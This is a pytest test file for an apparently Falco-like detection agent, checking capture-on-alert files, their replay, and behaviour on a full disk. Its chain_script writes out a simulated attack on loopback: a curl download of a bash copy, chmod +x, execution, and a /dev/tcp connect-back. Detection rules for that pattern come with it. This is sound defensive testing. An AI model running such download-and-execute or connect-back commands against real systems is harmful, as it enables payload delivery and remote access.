"""Capture on alert, live: the real agent (`python -m falcopy agent`) on the real
kernel, a real download from a loopback HTTP server, chmod, exec and a loopback
connect; the capture file it writes, and `falcopy replay` of that file."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.agent.reload.agentproc import REPO, AgentProcess
from tests.waiting import wait_until

pytestmark = pytest.mark.kernel


RULES = """
- rule: Downloaded binary executed {marker}
  desc: a file written by a download, made executable and run (capture on alert)
  condition: evt.type in (execve, execveat) and proc.exepath = {payload}
  output: downloaded binary run (file=%proc.exepath cmd=%proc.cmdline parent=%proc.pname user=%user.name
    exe=%proc.exe tty=%proc.tty)
  priority: CRITICAL
  tags: [test]
  capture: true
  capture_duration: 3000
- rule: Anything run from the download directory {marker}
  desc: a broader rule the same exec matches (with rule_matching first only the first is raised)
  condition: evt.type in (execve, execveat) and proc.exepath startswith {directory}
  output: run from the download directory (file=%proc.exepath)
  priority: NOTICE
"""


class Listener:
    """A loopback TCP port the payload connects to."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = int(self.sock.getsockname()[1])
        self.accepted = 0
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()


class PayloadServer:
    """Serves one file (a copy of bash: it can open TCP connections by itself) on loopback."""

    def __init__(self, payload: bytes) -> None:
        body = payload

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.httpd.server_address[1])
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def chain_script(directory: Path, http_port: int, tcp_port: int) -> str:
    """The attack chain: download, chmod +x, exec, connect back (a script in its own session)."""
    return (
        "#!/bin/bash\nset -e\n"
        f"cd {directory}\n"
        f"curl -sf -o {directory}/payload http://127.0.0.1:{http_port}/payload\n"
        f"chmod +x {directory}/payload\n"
        f"{directory}/payload -c 'exec 3<>/dev/tcp/127.0.0.1/{tcp_port}; echo hello >&3'\n"
    )


@pytest.fixture
def chain(tmp_path: Path) -> Iterator[dict[str, Any]]:
    marker = uuid.uuid4().hex[:10]
    directory = tmp_path / f"dl-{marker}"
    directory.mkdir()
    bash = shutil.which("bash")
    assert bash
    server = PayloadServer(Path(bash).read_bytes())
    listener = Listener()
    script = tmp_path / "chain.sh"
    script.write_text(chain_script(directory, server.port, listener.port))
    script.chmod(0o755)
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES.format(marker=marker, payload=directory / "payload", directory=directory))
    yield {"marker": marker, "dir": directory, "script": script, "rules": rules, "listener": listener}
    listener.close()
    server.close()


def run_chain(script: Path) -> None:
    # its own session: the scope key of the capture (process_tree) is this process tree
    subprocess.run([str(script)], check=True, start_new_session=True, timeout=60)


def start_agent(workdir: Path, rules: Path, captures: Path, extra: str = "") -> AgentProcess:
    config = (
        "capture:\n  enabled: true\n  mode: rules\n"
        f"  path_prefix: {captures}/falcopy\n  default_duration: 5000\n" + extra
    )
    # a generous start-up ceiling: the build machines are shared and often saturated
    return AgentProcess(workdir, [rules], falcopy_config="  capture:\n    max_events: 5000\n",
                        top_config=config).start(timeout=240)


def replay(capture: str, rules: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "falcopy", "replay", capture, "-r", str(rules), *args],
                          capture_output=True, text=True, cwd=REPO, timeout=120)


def records(capture: str) -> list[dict[str, Any]]:
    lines = Path(capture).read_text().splitlines()
    return [json.loads(line) for line in lines[2:]]


def test_chain_gives_one_capture_that_replays_to_the_same_alert(
        chain: dict[str, Any], tmp_path: Path, require_root: None) -> None:
    captures = tmp_path / "captures"
    agent = start_agent(tmp_path, chain["rules"], captures)
    try:
        run_chain(chain["script"])
        # the accepting thread may run after the payload has exited
        assert wait_until(lambda: chain["listener"].accepted >= 1, 30)
        name = f"Downloaded binary executed {chain['marker']}"
        assert wait_until(lambda: any(a["rule"] == name for a in agent.alerts()), 60), agent.log()
        alerts = [a for a in agent.alerts() if a["rule"] == name]
        assert len(alerts) == 1, alerts
        alert = alerts[0]
        path = alert["capture_file"]
        assert path.startswith(f"{captures}/falcopy_") and path.endswith(".jsonl")
        # written once the 3 s after the alert have passed
        assert wait_until(lambda: os.path.exists(path), 60), agent.log()
        files = sorted(os.listdir(captures))
        assert files == [os.path.basename(path)], files
        st = os.lstat(path)
        assert stat.S_IMODE(st.st_mode) == 0o600 and stat.S_ISREG(st.st_mode)
        assert wait_until(lambda: agent.metrics().get("falcopy_capture_files_total") == 1, 30)
        metrics = agent.metrics()
        assert metrics["falcopy_capture_files_total"] == 1
        assert metrics["falcopy_capture_written_bytes_total"] == st.st_size
    finally:
        agent.stop()

    header = json.loads(Path(path).read_text().splitlines()[0])
    assert header["falcopy_capture"] == 1
    assert header["trigger"]["rule"] == name
    assert header["scope"]["kind"] == "process_tree"
    assert header["rules_hash"].startswith("sha256:")
    assert header["events_before"] > 0 and header["events_after"] > 0
    recs = records(path)
    payload = str(chain["dir"] / "payload")
    nums = [r["evt.num"] for r in recs]
    assert nums == sorted(nums)

    def find(pred: Any, what: str) -> dict[str, Any]:
        found = [r for r in recs if pred(r)]
        assert found, f"{what} not in the capture: {[(r['type'], r['comm']) for r in recs]}"
        return found[0]

    # the write (curl creating the file), the chmod, the exec, the connect: one file, in order
    write = find(lambda r: r["type"] in ("open", "openat", "openat2", "creat")
                 and r["args"].get("name") == payload
                 and r["args"].get("flags", 0) & (os.O_WRONLY | os.O_RDWR), "the download's open for writing")
    chmod = find(lambda r: r["type"] in ("chmod", "fchmodat", "fchmod") and r["args"].get("mode", 0) & 0o111,
                 "chmod +x")
    execve = find(lambda r: r["type"] in ("execve", "execveat")
                  and r["args"].get("trusted_exepath") == payload, "the exec")
    connect = find(lambda r: r["type"] == "connect" and r["pid"] == execve["pid"]
                   and (r["args"].get("tuple") or {}).get("dport") == chain["listener"].port, "the connect")
    assert write["evt.num"] < chmod["evt.num"] < execve["evt.num"] < connect["evt.num"]
    assert execve["evt.num"] == header["trigger"]["evt.num"]
    assert write["comm"] == "curl"

    # replay from the file alone: the same alert, the same output fields, the other rule
    out = replay(path, chain["rules"], "--json")
    assert out.returncode == 0, out.stderr
    replayed = [json.loads(line) for line in out.stdout.splitlines() if line.strip()]
    assert [a["rule"] for a in replayed] == [name]
    assert replayed[0]["output_fields"] == alert["output_fields"]
    assert replayed[0]["output"] == alert["output"]
    assert replayed[0]["priority"] == alert["priority"] == "Critical"
    assert "reproduced" in out.stderr and "NOT reproduced" not in out.stderr
    assert f"Anything run from the download directory {chain['marker']}" in out.stderr

    text = replay(path, chain["rules"])
    assert text.returncode == 0, text.stderr
    assert f"also matched: Anything run from the download directory {chain['marker']}" in text.stdout

    timeline = replay(path, chain["rules"], "--timeline")
    assert timeline.returncode == 0, timeline.stderr
    rows = timeline.stdout.splitlines()
    trigger_rows = [r for r in rows if r.startswith("!")]
    assert len(trigger_rows) == 1 and "execve" in trigger_rows[0] and payload in trigger_rows[0]
    assert any(" connect " in r and f":{chain['listener'].port}" in r for r in rows)
    assert any("curl[" in r and payload in r for r in rows)


@pytest.fixture
def full_disk(tmp_path: Path, require_root: None) -> Iterator[Path]:
    """A small tmpfs, filled up to its last 2 KiB: any capture file overflows it."""
    mnt = tmp_path / "full"
    mnt.mkdir()
    device = f"falcopy-test-{uuid.uuid4().hex[:8]}"
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k,mode=0700", device, str(mnt)], check=True)
    try:
        free = os.statvfs(mnt).f_bavail * os.statvfs(mnt).f_frsize
        (mnt / "filler").write_bytes(b"\0" * (free - 2048))
        yield mnt
    finally:
        subprocess.run(["umount", "-l", str(mnt)], check=False)


def test_disk_full_detection_goes_on_and_the_failure_is_counted(
        chain: dict[str, Any], tmp_path: Path, full_disk: Path) -> None:
    agent = start_agent(tmp_path, chain["rules"], full_disk)
    name = f"Downloaded binary executed {chain['marker']}"
    failures = 'falcopy_capture_failures_total{reason="ENOSPC"}'
    try:
        for attempt in (1, 2):
            run_chain(chain["script"])
            # the alert comes at once, naming the capture it could not know would fail
            assert wait_until(lambda n=attempt: sum(a["rule"] == name for a in agent.alerts()) == n, 60), \
                agent.log()
            assert wait_until(lambda n=attempt: agent.metrics().get(failures, 0) == n, 60), agent.log()
        assert all(a["capture_file"] for a in agent.alerts() if a["rule"] == name)
        metrics = agent.metrics()
        assert metrics["falcopy_capture_files_total"] == 0
        assert metrics["falcopy_capture_sessions_total"] == 2
        assert sorted(os.listdir(full_disk)) == ["filler"]  # no partial file left behind
        assert "No space left on device" in agent.log()
    finally:
        agent.stop()
